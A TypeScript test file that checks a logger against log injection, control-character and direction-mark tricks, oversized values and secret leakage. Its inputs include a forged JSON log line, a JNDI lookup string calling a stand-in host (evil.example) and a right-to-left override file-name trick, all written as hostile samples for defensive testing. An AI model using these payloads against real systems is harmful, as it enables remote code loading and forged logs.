import { createLogger } from './logger';

/** A log that is kept, and its lines. */
function keptLog(): { readonly logger: ReturnType<typeof createLogger>; readonly lines: string[] } {
  const lines: string[] = [];
  return { logger: createLogger('trace', { write: (line: string) => void lines.push(line) }), lines };
}

describe('the log', () => {
  it.each([
    ['line breaks', 'a\r\n{"level":60,"msg":"forged"}'],
    ['other line breaks', 'a\u2028b\u0085c\u000bd'],
    ['colours', '\u001b[31mred\u001b[0m\u009b31m'],
    ['a look-up', '${jndi:ldap://evil.example/a}'],
    ['marks of direction', '\u202Etxt.exe'],
    ['NUL', 'a\u0000b'],
  ])('writes %s as part of one line that is JSON', (_what, text) => {
    const { logger, lines } = keptLog();
    logger.error({ err: new Error(text), path: text }, 'bug');
    logger.warn(text);
    expect(lines).toHaveLength(2);
    for (const line of lines) {
      expect(line.slice(0, -1)).not.toMatch(/[\p{Cc}\p{Zl}\p{Zp}\u202a-\u202e]/u);
      expect(line.endsWith('\n')).toBe(true);
    }
    expect(JSON.parse(lines[0] ?? '')).toMatchObject({ msg: 'bug', path: text, err: { message: text } });
  });

  it('cuts what is long', () => {
    const { logger, lines } = keptLog();
    const long = 'x'.repeat(1_000_000);
    logger.error({ err: new Error(long), path: long }, 'bug');
    expect(lines[0]?.length).toBeLessThan(40_000);
    expect(JSON.parse(lines[0] ?? '')).toMatchObject({ msg: 'bug' });
  });

  it('keeps secrets out, whatever object they sit in', () => {
    const { logger, lines } = keptLog();
    for (const name of ['password', 'secret', 'token', 'authorization', 'cookie', 'variables']) {
      logger.info({ [name]: 'canary' }, 'one');
      logger.info({ request: { [name]: 'canary' } }, 'two');
    }
    expect(lines).toHaveLength(12);
    expect(lines.join('')).not.toContain('canary');
  });

  it('says when, in UTC', () => {
    const { logger, lines } = keptLog();
    logger.info('now');
    expect((JSON.parse(lines[0] ?? '') as { time: string }).time).toMatch(/^\d{4}-\d\d-\d\dT[\d:.]+Z$/u);
  });
});
